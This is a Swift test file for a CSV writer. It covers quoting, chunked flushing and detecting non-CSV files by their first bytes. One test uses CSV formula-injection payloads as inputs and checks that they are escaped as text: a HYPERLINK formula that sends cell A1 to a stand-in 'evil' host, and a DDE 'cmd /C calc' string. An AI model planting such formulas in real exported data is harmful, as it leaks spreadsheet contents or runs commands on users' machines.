import Tabular
import Testing

@Test func fieldsAreQuotedOnlyWhereTheyMustBe() throws {
    var bytes: [UInt8] = []
    var writer = CSVWriter { bytes += $0 }
    try writer.row(["plain", "with,comma", "with \"quote\"", "two\nlines", "cr\r", ""])
    writer.add(Int64.min)
    writer.add(0)
    writer.addEmpty()
    try writer.endRow()
    try writer.row([""])
    try writer.flush()
    let expected = """
        plain,"with,comma","with ""quote""\","two
        lines","cr\r",
        -9223372036854775808,0,
        ""

        """
    #expect(String(decoding: bytes, as: UTF8.self) == expected)
}

@Test func whatASpreadsheetWouldRunIsWrittenAsText() throws {
    var bytes: [UInt8] = []
    var writer = CSVWriter { bytes += $0 }
    try writer.row(["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "\t=1+1", "-cmd"])
    try writer.row(["-1234.50", "+51", "1+1", "Ana=1", "-"])
    try writer.flush()
    let expected = """
        "'=HYPERLINK(""http://evil/?""&A1,""x"")",'@SUM(1+1)*cmd|' /C calc'!A0,'+1+1,'\t=1+1,'-cmd
        -1234.50,+51,1+1,Ana=1,-

        """
    #expect(String(decoding: bytes, as: UTF8.self) == expected)
}

@Test func filesThatAreNoCSVAreKnownByTheirFirstBytes() {
    let files: [([UInt8], ForeignFile?)] = [
        ([0x50, 0x4B, 3, 4, 20], .workbook), ([0xD0, 0xCF, 0x11, 0xE0, 0xA1], .oldWorkbook),
        (Array("%PDF-1.7\n".utf8), .pdf), ([0xFF, 0xFE, 0x68, 0], .utf16), ([0x68, 0, 0x6F, 0, 0x75, 0], .utf16),
        ([0, 0x68, 0, 0x6F], .utf16), (Array("<?xml version=\"1.0\"?>".utf8), .markup),
        (Array(" {\"a\":1}".utf8), .json),
        ([0x1F, 0x8B, 8], .compressed), (Array("a;b;c\n1;2;3\n".utf8), .semicolons), (Array("a\tb\n".utf8), .tabs),
        ([0xEF, 0xBB, 0xBF] + Array("a;b".utf8), .semicolons), (Array("a,b;c\n".utf8), nil), (Array("a\n".utf8), nil),
        ([], nil), ([0x50], nil), ([0xEF, 0xBB, 0xBF] + Array("a,b".utf8), nil),
    ]
    for (bytes, kind) in files { #expect(ForeignFile.recognise(bytes) == kind, "\(bytes)") }
    // Each says what was found, what is read, and what to do.
    for kind in ForeignFile.allCases {
        #expect(kind.sentence.text.hasPrefix("th") && kind.sentence.text.contains("is read: "), "\(kind)")
    }
}

@Test func aWriterHandsOverPiecesAndKeepsNothing() throws {
    var pieces: [Int] = []
    var writer = CSVWriter(flushingAt: 1000) { pieces.append($0.count) }
    for number in 0..<5000 {
        writer.add(number)
        try writer.endRow()
    }
    try writer.flush()
    #expect(pieces.count > 20)
    #expect(pieces.allSatisfy { $0 < 1100 })
    let digits = (0..<5000).map { String($0).utf8.count }.reduce(0, +)
    #expect(pieces.reduce(0, +) == digits + 5000)
}
